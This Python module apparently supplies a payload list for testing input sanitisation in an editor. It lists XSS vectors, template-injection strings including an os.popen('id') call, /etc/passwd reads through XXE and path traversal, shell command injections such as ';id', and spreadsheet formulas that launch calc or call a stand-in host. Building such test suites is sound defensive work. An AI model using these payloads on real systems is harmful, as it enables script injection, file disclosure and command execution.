"""Hostile texts: what an editor, or whoever sent a text to one, may put into any field."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

#: what a script does if it runs
RUN = "alert(1)"
#: a place that must not be asked for anything
AWAY = "//away.example/x"

ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={AWAY}></script>",
    f"<script type=module>{RUN}</script>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", "<script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script>{RUN}<b></script>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a>",
    f"<svg><set attributeName=onmouseover to={RUN}>", f"<svg><use href=data:image/svg+xml,{RUN}#x>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><image href={AWAY}></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img src=x onerror={RUN}&gt;>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src={AWAY}>", f"<img srcset='{AWAY} 2x'>", f"<img src='x'onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>", f"<img src=x oneonerrorrror={RUN}>", f"<image src=x onerror={RUN}>",
    f"<picture><source srcset={AWAY}><img></picture>", f"<video src={AWAY} autoplay></video>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>", f"<body background={AWAY}>", f"<html onmouseover={RUN}>",
    f"<iframe src={AWAY}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<frameset onload={RUN}><frame src={AWAY}></frameset>",
    f"<object data={AWAY}></object>", f"<object data=javascript:{RUN}></object>", f"<embed src={AWAY}>",
    f"<applet code={AWAY}></applet>", f"<base href={AWAY}/>", f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>", f"<link rel=import href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<meta http-equiv=refresh content=0;javascript:{RUN}>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>",
    f"<style>@import '{AWAY}';</style>", f"<style>*{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>x</p>", "<p style='position:fixed;inset:0'>x</p>",
    f"<div style=\"width:expression({RUN})\">x</div>", f"<table background={AWAY}><tr><td>x</table>",
    f"<form action={AWAY}><input name=x><button>x</button></form>", f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>", "<textarea>", "<title>", "<xmp>",
    f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", "<plaintext>",
    f"<a href=x onclick={RUN}>x</a>", f"<a href=x id=_main name=_main onfocus={RUN} autofocus>x</a>",
    f"<a href=https://a.cn ping={AWAY}>x</a>", f"<a target=_blank href={AWAY}>x</a>", f"<p onpointerover={RUN}>x</p>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'>", f"<x onclick={RUN} tabindex=1 style=x>x</x>",
    "<p id=_main class=site-head>x</p>", "<h1>x</h1>", "</main></body></html>", "</p></div></td></tr></table>",
    "</svg></g></text>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml-stylesheet href={AWAY}?>", f"<?x><script>{RUN}</script>?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", f"<!--#include virtual={AWAY} -->",
]  # fmt: skip
#: out of an attribute, a text of XML or of JSON
BREAKOUTS = [
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover={RUN} x="', f"' onmouseover={RUN} x='",
    f'" onload="{RUN}', f"' onload='{RUN}", f'"/><image href="{AWAY}"/>', f'" style="background:url({AWAY})', f"` onclick={RUN} `",
    f'"/></a><a href="javascript:{RUN}">', f"x\" href='javascript:{RUN}'", f"</text><script>{RUN}</script><text>",
    f"</tspan></text><foreignObject><script>{RUN}</script></foreignObject>", f"</desc><script>{RUN}</script>",
    f"</a><a xlink:href='javascript:{RUN}'>", f'"}});{RUN}//', f"'}});{RUN}//", f'"}}]}}</script><script>{RUN}</script>',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&amp;lt;script&amp;gt;{RUN}", f"&quot; onclick=&quot;{RUN}", f"&#34; onclick=&#34;{RUN}", f"＜script＞{RUN}＜/script＞",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{% for x in (1,) %}x{% endfor %}", "{# x #}", "{{ config }}", "{{ ''.__class__.__mro__ }}",
    "{{ self.__init__.__globals__ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}", "{{ link('javascript:alert(1)') }}", "{{ '<b>'|safe }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)",
    "{0.__class__}", "%(x)s", "%s%n", "{x!r}", "{{", "}}", "{%", "%}", "[[7*7]]", "{{{x}}}", "<?php echo 1 ?>", "__import__('os')",
]  # fmt: skip
TYPST = [
    "#panic(1)", "#sys.inputs", "#eval(\"1+1\")", "#read(\"/etc/passwd\")", "#include \"/etc/passwd\"", "#import \"x.typ\": *",
    f"#image(\"{AWAY}\")", f"#link(\"javascript:{RUN}\")[x]", "#link(\"https://away.example\")", "#set page(width: 1pt)", "#show: x => []",
    "#let d = 1", "#pagebreak()", "#(1+1)", "#{", "#[", "]", "$x$", "$ sum_(i=0)^n $", "$", "@x", "@fig-1", "<x>", "<label>", "`x`",
    "```typ #panic(1)```", "*x*", "_x_", "= x", "== x", "- x", "+ x", "/ x: y", "//x", "/* x", "*/", "\\", "\\ ", "\\u{41}", "\\#", "~",
    "---", "--", "...", "'x'", "\"x\"", "#\"x\"", "#raw(\"x\")", "#context here()", "#outline()", "#state(\"x\").get()", "#sym.arrow",
    "#h(100cm)", "#v(100cm)", "#rotate(90deg)[x]", "#metadata(1)", "#counter(page).update(9)", "#bibliography(\"x.bib\")",
]  # fmt: skip
DOT = [
    '"', '\\"', "\\", "\\\\", "\\N", "\\G", "\\E", "\\l", "\\n", "\\r", "\\T", '\\";x[URL="javascript:x"];', f'"];x[URL="javascript:{RUN}"];"',
    f'" URL="{AWAY}', f'", image="{AWAY}', "<b>x</b>", f"<<table><tr><td href='javascript:{RUN}'>x</td></tr></table>>", "}", "};digraph{",
    "a -> b", "x:n", "x;y", "/*", "//", "# x", "{a|b}", "<f0> x|<f1> y", "&#34;];", "[label=x]", "subgraph x {", "strict",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "file:///etc/passwd", "%00", "%2e%2e%2f", "x.html?y#z", "con", "$(id)",
    "`id`", ";id", "| id", "&& id", "a'b", "a\"b", "~/x", "*", "?", "--help", "-rf", "con.txt", "nul", "x:y", "http://[::1]/x",
]  # fmt: skip
PLACEHOLDERS = [
    "null",
    "~",
    "undefined",
    "NaN",
    "true",
    "0",
    "[]",
    "__proto__",
    "constructor",
    "依法不予公开",
]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢"]
FORMULAS = [
    "1+1",
    "cmd|' /C calc'!A1",
    f'HYPERLINK("https:{AWAY}","x")',
    f'IMPORTXML("https:{AWAY}","//a")',
    "SUM(A1:A9)",
]
SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"java&#x09;script:{RUN}",
    f"&#1;javascript:{RUN}", f"javascript:https://x/%0a{RUN}", f"javascript://x/%0a{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>", "blob:https://x/y", "file:///etc/passwd", "ftp://away.example/x", AWAY, f"//{AWAY}",
    "\\\\away.example\\x", "/\\away.example/x", "https:away.example", "//host/://", "view-source:https://x", "about:blank", "ws://x",
]  # fmt: skip
FORMS = [
    "[甲]({})",
    "<a href='{}'>甲</a>",
    "<a href={}>甲</a>",
    "[甲][乙]\n\n[乙]: {}",
    "![甲]({})",
    "<{}>",
    "{}",
]


def _all() -> Iterator[str]:
    for texts in (ELEMENTS, BREAKOUTS, TEMPLATES, TYPST, DOT, PATHS, PLACEHOLDERS):
        yield from texts
    yield from (sign + formula for sign, formula in product(SIGNS, FORMULAS))
    yield from (form.format(scheme) for scheme, form in product(SCHEMES, FORMS))


PAYLOADS = tuple(dict.fromkeys(text.strip() for text in _all()))
